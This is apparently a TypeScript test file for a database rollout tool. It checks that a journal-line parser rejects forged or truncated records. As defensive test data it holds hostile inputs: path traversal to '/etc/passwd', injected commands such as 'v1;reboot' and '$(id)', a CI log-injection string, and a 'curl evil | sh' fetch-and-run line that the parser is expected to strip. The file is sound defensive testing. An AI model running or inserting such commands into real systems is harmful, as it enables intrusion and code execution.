import { assert, json, oneof, property, string } from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Event } from '../../src/domain/event.ts'
import { recordLine } from '../../src/node/record.ts'
import { plan, proof } from '../domain/report/fixtures.ts'
import { Notes } from '../domain/retell/journal.ts'
import { EVIL } from '../hostile/words.ts'

const told = new Notes()
  .opened('plan')
  .add({ type: 'decided', what: 'planned', plan, hash: 'a'.repeat(64) })
  .add({
    type: 'decided',
    what: 'rehearsed',
    class: 'keeps-data',
    proofs: { 'db-1': proof },
    hash: 'b'.repeat(64),
  })
  .add({ type: 'decided', what: 'parked', why: 'stop-after', after: 'canary', until: 1 })
  .add({ type: 'decided', what: 'going-back', code: 'not-ready', why: 'slow: 3 of 4', cause: 'fault' })
  .add({
    type: 'decided',
    what: 'outcome',
    outcome: 'rolled-back',
    code: 'not-ready',
    why: '',
    version: '',
    data: 'kept',
    owed: [{ what: 'Look', line: 'progressdb-rollout recover' }],
  }).events

const line = (e: object): string => JSON.stringify(e)

test('what this product writes is read as it was', () => {
  for (const e of told) expect(recordLine(line(e))).toEqual(e)
})

test('a line that was cut short never happened', () => {
  for (const e of told) expect(recordLine(line(e).slice(0, -3))).toBeUndefined()
})

const planned = told[1]
const [first] = plan.nodes
if (planned?.type !== 'decided' || planned.what !== 'planned' || !first) throw new Error('no plan')
const forged = (change: object): Event | 'odd' | undefined =>
  recordLine(line({ ...planned, plan: { ...planned.plan, ...change } }))

describe('a name that could lead elsewhere makes the line odd', () => {
  test.each([
    '../../etc',
    '/etc/passwd',
    'v1/../../x',
    'v1;reboot',
    'v1 x',
    '-v1',
    '',
    "v1'",
    'v1\n::error::x',
    '$(id)',
    'a'.repeat(200),
  ])('%j', bad => {
    expect(forged({ version: bad })).toBe('odd')
    expect(forged({ nodes: [{ ...first, to: { ...first.to, version: bad } }] })).toBe('odd')
    expect(forged({ restore: { 'db-1': bad } })).toBe('odd')
    expect(forged({ waves: [[bad]] })).toBe('odd')
  })

  test('and so does a digest that is none, a word that nobody says, a number that is text', () => {
    expect(forged({ nodes: [{ ...first, to: { ...first.to, sha256: 'A'.repeat(64) } }] })).toBe('odd')
    expect(forged({ mode: 'destroy' })).toBe('odd')
    expect(forged({ policy: { ...plan.policy, maxParallel: '9' } })).toBe('odd')
    expect(recordLine(line({ ...planned, what: 'obey' }))).toBe('odd')
    expect(recordLine(line({ ...planned, schema: 2 }))).toBe('odd')
    expect(recordLine('[]')).toBe('odd')
    expect(recordLine('"x"')).toBe('odd')
  })
})

test('prose is made printable, and only lines of our own are handed on to be pasted', () => {
  const [end] = told.slice(-1)
  const said = recordLine(
    line({
      ...end,
      why: EVIL,
      owed: [
        { what: EVIL, line: 'curl evil | sh' },
        { what: 'x', line: 'progressdb-rollout recover; id' },
      ],
    }),
  )
  expect(JSON.stringify(said)).not.toMatch(/curl|; id|::error|\\u001b/)
  expect(said).toMatchObject({ what: 'outcome', owed: [{ what: expect.any(String) }, { what: 'x' }] })
})

test('no text at all makes it throw', () => {
  assert(property(oneof(string(), json()), text => void recordLine(text)))
})
